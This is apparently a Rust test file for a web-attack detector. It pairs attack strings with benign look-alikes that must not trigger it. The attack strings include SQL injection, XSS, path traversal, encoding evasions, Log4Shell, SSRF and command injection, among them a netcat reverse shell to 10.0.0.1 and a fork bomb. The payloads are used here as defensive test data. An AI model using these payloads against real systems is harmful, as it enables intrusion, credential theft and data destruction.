//! Each detector and evasion, with a benign twin that must not fire; no
//! panic on arbitrary bytes; decoding is idempotent on its own output.

use rasp_detect::{Class, Detector, SourceKind, normalize};

fn classes(d: &Detector, v: &str, s: SourceKind) -> Vec<Class> {
    let f = d.inspect(v.as_bytes(), s);
    let mut c: Vec<Class> = f
        .iter()
        .filter(|f| f.confidence == rasp_detect::Confidence::High)
        .map(|f| f.class)
        .collect();
    c.sort();
    c.dedup();
    c
}

fn blocks(d: &Detector, v: &str, s: SourceKind) -> bool {
    d.inspect(v.as_bytes(), s).blocks()
}

const Q: SourceKind = SourceKind::QueryValue;

#[test]
fn attacks_and_their_benign_twins() {
    let d = Detector::default();
    let cases: &[(Class, &str, &str)] = &[
        (Class::Sqli, "1' OR '1'='1", "O'Neil and Sons"),
        (
            Class::Sqli,
            "-1 UNION/**/SELECT username,password FROM users--",
            "union station, select tours",
        ),
        (Class::Sqli, "1; DROP TABLE users--", "drop off at table 4"),
        (Class::Sqli, "1 AND SLEEP(5)", "sleep well"),
        (Class::Sqli, "admin'--", "rock 'n' roll"),
        (
            Class::Sqli,
            "aa' / current_date regexp '0",
            "\"not for sale\"",
        ),
        (Class::Sqli, "1' * id - '0", "5' 10\" tall"),
        (Class::Sqli, "'=0--+", "'70s music"),
        (Class::Sqli, "HOPE AND 8=(3)", "hope and 8 (three)"),
        (Class::Sqli, " OR x=x#", "color=red; size=m"),
        (Class::Sqli, "id having (1 or true)", "having 1 or two"),
        (
            Class::Sqli,
            "1) and make_set(1559=4863,4863)",
            "make set (of 2)",
        ),
        (
            Class::Sqli,
            "PI() AND COS(PI())=-1",
            "pie and cos (lettuce)",
        ),
        (Class::Sqli, "1=1 AND-+-+-+~~((1))", "1=1 and more"),
        (Class::Sqli, "' is 99999 = '", "\"<3\""),
        (Class::Sqli, "'<~'", "\"NOT\" stuffer"),
        (Class::Sqli, "\" or \"\"-\"", "necklace length 16\" or 18\""),
        (Class::Sqli, "1e1AND-1=0.0UNION SELECT 2", "1950 union made"),
        (Class::Sqli, "0x1-\r\n1/1/**/union", "1\r\nunion jack"),
        (
            Class::Sqli,
            "' or MATCH username AGAINST ('+admin' IN BOOLEAN MODE);",
            "match against (rivals)",
        ),
        (
            Class::Sqli,
            "1 || user_id is not null",
            "it is null and void",
        ),
        (Class::Sqli, "AND deleted = 0)", "and deleted items"),
        (Class::Sqli, "in (2147483647,-1)", "in (2 weeks)"),
        (Class::Sqli, "or 'a' <", "or 'a' grade"),
        (Class::Sqli, "OR '{\"a\":\"b\"}' ? 'a'", "a '{b}' ? c"),
        (Class::Sqli, "pg_catalog", "pg 13 catalog"),
        (Class::Sqli, "1 and @@version", "ana@example.com"),
        (Class::Sqli, "x'+'", "\"white\" + \"plate\" + \"pottery\""),
        (Class::Sqli, "1 and elt(1,sleep(5))", "Haßelt (1599)"),
        (
            Class::Sqli,
            "BACKUP database master to disk='\\\\10.0.0.1\\x\\db.dat'",
            "backup database to cloud",
        ),
        (
            Class::Traversal,
            "\\\\::1\\c$\\users\\default\\ntuser.dat",
            "C:\\notes\\todo.txt",
        ),
        (Class::Sqli, "GROUP_CONCAT(", "name.substring(2)"),
        (
            Class::Sqli,
            "+aa1' * @a or '1 '/1 regexp '0",
            "'countdown calendar\" and \"disney",
        ),
        (
            Class::Sqli,
            "9999 or /*+optimizer hint */ true",
            "9999 or more",
        ),
        (Class::Sqli, "1.e(ascii)", "fig. 1.e"),
        (
            Class::Sqli,
            "encode(lo_get(16200),'base64')::int",
            "Foo::Bar",
        ),
        (
            Class::Xss,
            "<a href=\"vbscript:MsgBox+1\">x</a>",
            "<a href=\"/scripts/\">x</a>",
        ),
        (
            Class::Xss,
            "top[/al/.source+/ert/.source](1)",
            "top[10] (list)",
        ),
        (Class::Xss, "[1].find(alert)", "find(alerts)"),
        (Class::Xss, "a=alert,a(1)", "a=alerts, b(1)"),
        (
            Class::Xss,
            "document/*foo*/./*bar*/cookie",
            "document/*draft*/.pdf",
        ),
        (
            Class::Xss,
            "self /*x*/ [ /*y*/ \"alert\"](\"xss\")",
            "self [see \"notes\"]",
        ),
        (
            Class::Xss,
            "[].sort.call`${alert}1337`",
            "call `make` twice",
        ),
        (Class::Xss, "new Function()", "new function (role)"),
        (
            Class::Xss,
            "<div style=\"font-family:foo}color=red;\">XXX</div>",
            "<div style=\"color:red\">XXX</div>",
        ),
        (
            Class::Xss,
            "\\\"autof<x>ocus o<x>nfocus=alert<x>(1)//",
            "o<b>n</b> focus = good",
        ),
        (Class::Xss, "a= !![]", "![](image.png)"),
        (Class::Xss, "ja&tab;vascript: ", "Learn Java Script: basics"),
        (Class::Xss, "java\tscript:", "javascript: the good parts"),
        (
            Class::Xss,
            "<v:vmlframe src=\"foo.com/sup.fml\"/>",
            "vml frame",
        ),
        (
            Class::Xss,
            "<\"onwebkitplaybacktargetavailabilitychanged=",
            "<\"online\">",
        ),
        (Class::Xss, "<script>alert(1)</script>", "<b>bold</b> text"),
        (
            Class::Xss,
            "<img src=x onerror=alert(1)>",
            "<img src=\"cat.png\">",
        ),
        (
            Class::Xss,
            "javascript:alert(document.cookie)",
            "JavaScript: the good parts",
        ),
        (Class::Xss, "\"><svg/onload=alert(1)>", "5\" x 7\" photo"),
        (Class::Xss, "--><!--[if gte IE 4]>", "login --> dashboard"),
        (
            Class::Traversal,
            "%c0%5e%c0%5e%%35%%63etc%%35%%63issue",
            "etc. issues, 5% off",
        ),
        (
            Class::Traversal,
            "C:/documents and settings/administrator/ntuser.dat",
            "documents and settings",
        ),
        (Class::Traversal, "../../../../etc/passwd", "docs/intro.md"),
        (
            Class::Traversal,
            "..\\..\\windows\\win.ini",
            "C# and F# notes",
        ),
        (Class::Cmdi, "127.0.0.1; cat /etc/passwd", "cats; dogs"),
        (Class::Cmdi, "$(whoami)", "cost: $5 (approx)"),
        (Class::Cmdi, "time who", "time flies"),
        (Class::Cmdi, "ansible all -m ping", "ansible tutorial"),
        (Class::Cmdi, "pip3 install something", "pip and seed"),
        (Class::Cmdi, "env --version", "env var docs"),
        (Class::Cmdi, ";lastlog -u root", "last log; root"),
        (Class::Cmdi, "cd /;cd etc;comm passwd passwd", "cd / dvd"),
        (
            Class::Cmdi,
            "find /etc -name passwd -exec cat {} \\;",
            "find exec {} docs",
        ),
        (Class::Cmdi, "a=nc&&$a -nlvp 555", "a=1&&b=2"),
        (Class::Cmdi, "\"`true`\"", "\"true\""),
        (Class::Cmdi, "rc script.sh", "rc cola"),
        (Class::Cmdi, "'cscli' alerts list", "cscli docs"),
        (Class::Cmdi, "Kernel.exit(1)", "kernel exit codes"),
        (Class::Cmdi, "bin/visudo", "recycle bin/trash"),
        (
            Class::Cmdi,
            "reg add \"HKLM\\System\\CurrentControlSet\" /v x /d 0 /f",
            "reg add-on pack",
        ),
        (Class::Cmdi, "@{[system \"touch /tmp/x\"]}", "@{[1, 2]}"),
        (Class::Cmdi, "host;c$!at /et$!c/pas$!swd", "US$1bn deal"),
        (Class::Cmdi, "ping$() 127.0.0.1", "$() in docs"),
        (Class::Cmdi, "{,ifconfig}", "{a,b}"),
        (Class::Cmdi, ":(){ :|:& };:", "f() {x}"),
        (
            Class::Cmdi,
            "For /R C:\\temp\\ %G IN (*.bak) do Echo del \"%G\"",
            "for 30% in (the)",
        ),
        (Class::Cmdi, "IF \"%1\"==\"/?\" goto help", "if 1 == 1"),
        (Class::Cmdi, "| nc -e /bin/sh 10.0.0.1 4444", "A | B"),
        (
            Class::Cmdi,
            "if exist C:\\boot.ini echo found",
            "if it exists, echo me",
        ),
        (
            Class::Cmdi,
            "for /r c:\\ %f in (*.bak) do del %f",
            "for all files in the folder",
        ),
        (Class::Cmdi, "IF 2 GEQ 15 echo bigger", "if 2 > 15, say so"),
        (Class::Cmdi, "cat /e??/p?ss??", "what is this?/why?"),
        (Class::Cmdi, "{l,-lh}s", "{a, b}"),
        (Class::Cmdi, "c{a,oun}t /etc/hosts", "c{a, b}t"),
        (Class::Cmdi, "; cat /et'c/pa'ss'wd", "O'Neil's"),
        (Class::Cmdi, ";$a cat test.txt", "costs $5 each"),
        (Class::Cmdi, "x; alias ls='rm -rf /'", "alias: Ana"),
        (Class::Cmdi, " ping.exe -n 31 127.0.0.1", "ping me at 3"),
        (Class::Cmdi, "nohup sh -c id", "sh is short for shell"),
        (
            Class::Cmdi,
            "Invoke-WebRequest http://x/a.ps1",
            "invoice web request",
        ),
        (
            Class::Ssrf,
            "http://169.254.169.254/latest/meta-data/",
            "https://example.com/latest",
        ),
        (
            Class::Ssrf,
            "http://2130706433/",
            "http://example.org/2130706433",
        ),
        (
            Class::Ssrf,
            "http://[dead:beef::1]/",
            "http://[2a00:1450:4001::1]/",
        ),
        (
            Class::Ssrf,
            "http://\\\\l\\\\o\\\\c\\\\a\\\\l\\\\h\\\\o\\\\s\\\\t/",
            "http://\\\\e\\\\x\\\\a\\\\m\\\\p\\\\l\\\\e.com/",
        ),
        (Class::Ldapi, "*|", "**"),
        (
            Class::Ssrf,
            "gopher://127.0.0.1:6379/_FLUSHALL",
            "the gopher is out",
        ),
        (
            Class::Nosqli,
            "{\"$where\": \"sleep(100)\"}",
            "{\"where\": \"here\"}",
        ),
        (Class::Ldapi, "*)(uid=*))(|(uid=*", "(555) 123-4567"),
        (Class::Ssti, "{{7*7}}", "{{ name }}"),
        (
            Class::Ssti,
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "price: $5",
        ),
        (Class::Jndi, "${jndi:ldap://evil.example/a}", "${HOME}/bin"),
        (
            Class::Shellshock,
            "() { :; }; /bin/cat /etc/passwd",
            "() => {}",
        ),
        (
            Class::Php,
            "<?php system($_GET['c']); ?>",
            "<? is a question",
        ),
        (Class::ProtoPollution, "__proto__[admin]=true", "proto-type"),
        (Class::Ssi, "<!--#exec cmd=\"ls\" -->", "<!-- comment -->"),
    ];
    for (class, attack, twin) in cases {
        assert!(
            classes(&d, attack, Q).contains(class),
            "{class}: {attack:?} -> {:?}",
            d.inspect(attack.as_bytes(), Q)
        );
        assert!(
            !blocks(&d, twin, Q),
            "benign twin of {class}: {twin:?} -> {:?}",
            d.inspect(twin.as_bytes(), Q)
        );
    }
}

#[test]
fn evasions_and_their_twins() {
    let d = Detector::default();
    let cases: &[(&str, &str)] = &[
        // double and triple percent-encoding
        ("%253Cscript%253Ealert(1)%253C%252Fscript%253E", "%2525 off"),
        // %uXXXX to the real code point (fullwidth dots and slashes)
        (
            "%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd",
            "%u00e9t%u00e9",
        ),
        // overlong UTF-8
        (
            "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
            "caf%c3%a9",
        ),
        // HTML entities without semicolons, leading zeros
        (
            "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
            "AT&T &amp; friends",
        ),
        // JS escapes
        (
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "line one\\nline two",
        ),
        // NUL bytes
        ("<scr%00ipt>alert(1)</scr%00ipt>", "a%00b"),
        // fullwidth characters
        ("＜script＞alert(1)＜/script＞", "ｆｕｌｌｗｉｄｔｈ text"),
        // SQL comments between keywords, MySQL versioned comments
        ("1'/**/OR/**/'1'='1", "a/**/b"),
        (
            "1'/*!0UNION/*!0ALL/*!0SELECT user,2/*!0FROM/*!0mysql.user/*-",
            "a /*! b",
        ),
        // CSS escapes
        (
            "<div style=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0031\\0029'\\0029\">",
            "<div style=\"color:\\0023 fff\">",
        ),
        // shell quoting
        ("; c'a't /et\"c\"/pa\\ss\\wd", "it's a \"quote\""),
        // Log4Shell nested lookups (any `${prefix:key}` lookup in a value
        // is a finding of its own now; a placeholder is not)
        (
            "${${lower:j}${lower:n}d${upper:i}:ldap://x/a}",
            "${user_name}",
        ),
        // base64-wrapped traversal
        (
            "Li4vLi4vLi4vLi4vZXRjL3Bhc3N3ZA==",
            "SGVsbG8sIHdvcmxkISBIb3cgYXJlIHlvdT8=",
        ),
    ];
    for (attack, twin) in cases {
        assert!(blocks(&d, attack, Q), "evasion missed: {attack:?}");
        assert!(
            !blocks(&d, twin, Q),
            "twin flagged: {twin:?} -> {:?}",
            d.inspect(twin.as_bytes(), Q)
        );
    }
}

#[test]
fn opaque_tokens_are_not_code() {
    let d = Detector::default();
    for v in [
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        "3fa85f64-5717-4562-b3fc-2c963f66afa6",
        "d41d8cd98f00b204e9800998ecf8427e",
        "1234567890",
        "-12.5",
    ] {
        assert!(d.inspect(v.as_bytes(), Q).is_empty(), "{v}");
    }
}

#[test]
fn sources_scope_rules() {
    let d = Detector::default();
    // shell-like prose is fine in free text, not in a parameter
    let v = "run this; cat notes.txt | head";
    assert!(blocks(&d, v, SourceKind::QueryValue));
    assert!(!blocks(&d, v, SourceKind::JsonValue));
    // scanner names only count in headers, dangerous extensions only in file names
    assert!(blocks(&d, "sqlmap/1.7", SourceKind::Header));
    assert!(!blocks(&d, "sqlmap/1.7", SourceKind::QueryValue));
    assert!(blocks(&d, "shell.php", SourceKind::MultipartFilename));
    assert!(!blocks(&d, "shell.php", SourceKind::QueryValue));
    // a parameter called `uname` or `cmd` is not a command line
    assert!(blocks(&d, "uname", SourceKind::QueryValue));
    assert!(!blocks(&d, "uname", SourceKind::QueryName));
    assert!(!blocks(&d, "cmd", SourceKind::FormName));
    // markdown headings put `#` after words; a parameter does not
    let heading = "#### The `tests` Module and `#[cfg(test)]`";
    assert!(!blocks(&d, heading, SourceKind::JsonValue));
    assert!(blocks(&d, "x or 1 #", SourceKind::QueryValue));
    // prose about HTML names tags; markup with attributes is still markup
    let prose = "returns the text of the `<title>` element, or a `Box<Button>`";
    assert!(!blocks(&d, prose, SourceKind::JsonValue));
    assert!(blocks(&d, "<title>", SourceKind::QueryValue));
    assert!(blocks(
        &d,
        "<iframe src=//evil.example>",
        SourceKind::JsonValue
    ));
    // a header that opens with a command line is not a client's name
    assert!(blocks(&d, "cscli alerts list", SourceKind::Header));
    assert!(!blocks(&d, "cscli alerts list", SourceKind::QueryValue));
    assert!(!blocks(
        &d,
        "Mozilla/5.0 (X11; Linux x86_64)",
        SourceKind::Header
    ));
}

#[test]
fn levels_add_rules() {
    let v = "<b>hello</b>";
    assert!(Detector::new(2).inspect(v.as_bytes(), Q).is_empty());
    assert!(!Detector::new(3).inspect(v.as_bytes(), Q).is_empty());
}

#[test]
fn findings_score_and_excerpt() {
    let d = Detector::default();
    let f = d.inspect(b"1' OR '1'='1", Q);
    assert!(f.score() > 0 && f.score() <= 100);
    let (class, score) = f.class_scores()[0];
    assert_eq!(class, Class::Sqli);
    assert!(score > 0);
    for finding in &f {
        assert!(finding.excerpt.len() <= 48);
        assert!(finding.excerpt.bytes().all(|b| (0x20..0x7f).contains(&b)));
    }
}

/// A deterministic generator (xorshift), so failures reproduce.
fn bytes(seed: &mut u64, len: usize, alphabet: &[u8]) -> Vec<u8> {
    (0..len)
        .map(|_| {
            *seed ^= *seed << 13;
            *seed ^= *seed >> 7;
            *seed ^= *seed << 17;
            if alphabet.is_empty() {
                (*seed >> 32) as u8
            } else {
                alphabet[(*seed >> 32) as usize % alphabet.len()]
            }
        })
        .collect()
}

#[test]
fn arbitrary_bytes_never_panic() {
    let d = Detector::new(4);
    let mut seed = 0x2545_f491_4f6c_dd1du64;
    let nasty: &[u8] = b"%u0123456789abcdefABCDEF&#x;\\'\"<>(){}[]$`|;/.:=-+*!@ \r\n\t\x00\xc0\xae\xe0\x80\xef\xbc";
    for i in 0..6_000 {
        let len = (i * 31) % 700;
        let v = if i % 2 == 0 {
            bytes(&mut seed, len, &[])
        } else {
            bytes(&mut seed, len, nasty)
        };
        for s in [
            SourceKind::QueryValue,
            SourceKind::JsonValue,
            SourceKind::Header,
            SourceKind::Path,
            SourceKind::MultipartFilename,
        ] {
            let _ = d.inspect(&v, s);
        }
    }
}

#[test]
fn decoding_is_idempotent_once_fully_decoded() {
    let mut seed = 0x9e37_79b9_7f4a_7c15u64;
    let alphabet: &[u8] = b"abc<>'\"/\\.;&#x3c%20%2e ";
    for i in 0..5_000 {
        let v = bytes(&mut seed, i % 64, alphabet);
        // Decoding is bounded (3 percent passes); after normalising a value
        // twice more, a further pass changes nothing.
        let once = normalize(&v, false).0;
        let twice = normalize(&once, false).0;
        let thrice = normalize(&twice, false).0;
        let fourth = normalize(&thrice, false).0;
        assert_eq!(thrice, fourth, "{:?}", String::from_utf8_lossy(&v));
    }
}

/// Every row of the rule table, patterns and checks written as code alike,
/// through the public `inspect` at the row's level, as the row's example
/// source: each example it catches must come out under its id, each benign
/// twin must pass with no finding at all, and a level below the row's
/// must not run it.
#[test]
fn every_rule_catches_its_examples_and_passes_its_twins() {
    let detectors: Vec<Detector> = (1..=4).map(Detector::new).collect();
    let mut failures = Vec::new();
    let mut ids = std::collections::HashSet::new();
    let mut rows = 0;
    for rule in rasp_detect::rules() {
        rows += 1;
        assert!(ids.insert(rule.id()), "{} is in the table twice", rule.id());
        assert!(
            !rule.catches().is_empty() && !rule.passes().is_empty(),
            "{} needs an example and a benign twin",
            rule.id()
        );
        let source = rule.example_source();
        assert!(rule.reads(source), "{}", rule.id());
        let at = &detectors[usize::from(rule.level()) - 1];
        for example in rule.catches() {
            let found = at.inspect(example.as_bytes(), source);
            if !found.iter().any(|f| f.rule == rule.id()) {
                let fired: Vec<_> = found.iter().map(|f| f.rule).collect();
                failures.push(format!(
                    "{} missed {example:?} as {source:?} (fired: {fired:?})",
                    rule.id()
                ));
            }
            if rule.level() > 1 {
                let below = &detectors[usize::from(rule.level()) - 2];
                if below
                    .inspect(example.as_bytes(), source)
                    .iter()
                    .any(|f| f.rule == rule.id())
                {
                    failures.push(format!("{} ran below its level", rule.id()));
                }
            }
        }
        for twin in rule.passes() {
            let found = at.inspect(twin.as_bytes(), source);
            if !found.is_empty() {
                let fired: Vec<_> = found.iter().map(|f| f.rule).collect();
                failures.push(format!(
                    "{} twin {twin:?} as {source:?} fired {fired:?}",
                    rule.id()
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    // the table holds every rule: 141 patterns and 8 checks written as code
    assert_eq!(rows, 149);
}

/// A higher level runs more rules and must not see less: every example a
/// high-confidence row blocks at its level is blocked at every level above
/// it. (A low-confidence finding of a class once ended that class's later
/// checks, so level 3 let `&lt;b&gt;` through with a suspicion where
/// level 2 blocked it.)
#[test]
fn a_higher_level_blocks_what_a_lower_one_blocks() {
    let detectors: Vec<Detector> = (1..=4).map(Detector::new).collect();
    let mut failures = Vec::new();
    for rule in rasp_detect::rules() {
        if rule.confidence() != rasp_detect::Confidence::High {
            continue;
        }
        let source = rule.example_source();
        for example in rule.catches() {
            for level in rule.level()..=4 {
                let found = detectors[usize::from(level) - 1].inspect(example.as_bytes(), source);
                if !found.blocks() {
                    failures.push(format!(
                        "{}: {example:?} passes at level {level}",
                        rule.id()
                    ));
                }
            }
        }
    }
    for level in 2..=4 {
        for v in ["&lt;b&gt;bold&lt;/b&gt;", "&#60;i&#62;x"] {
            let found = detectors[level - 1].inspect(v.as_bytes(), SourceKind::QueryValue);
            assert!(found.blocks(), "{v:?} at level {level}: {found:?}");
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}
